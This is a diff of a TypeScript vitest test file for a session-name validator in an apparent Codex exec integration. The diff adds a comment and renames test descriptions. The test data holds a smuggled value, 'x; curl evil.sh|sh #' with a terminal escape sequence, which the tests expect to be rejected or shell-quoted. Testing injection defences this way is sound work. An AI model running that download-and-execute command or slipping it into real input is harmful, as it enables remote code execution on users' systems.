@@ -1,3 +1,4 @@
+/** A session of a tool is listed and offered only where its name can stand in a command line. */
 import { PassThrough } from "node:stream";
 import { describe, expect, it } from "vitest";
 import { ManualClock } from "../../../../../src/observe/clock.js";
@@ -7,7 +8,7 @@ import { CodexExecClient } from "../../../../../src/worker/integrations/codex/ex
 
 const HOSTILE = "x; curl evil.sh|sh #\u001b[2J";
 
-describe("what a tool calls its session", () => {
+describe("the name that a tool gives its session", () => {
   it.each([
     ["thread-7", "thread-7"],
     [HOSTILE, null],
@@ -48,7 +49,7 @@ describe("what a tool calls its session", () => {
     expect(listed.map(({ sessionId }) => sessionId)).toEqual(["s-1"]);
   });
 
-  it("stands in a line that a shell reads as it is meant", () => {
+  it("is quoted in a line for a shell", () => {
     const commands = new LineCommands({
       tool: "agent",
       facts: {} as never,
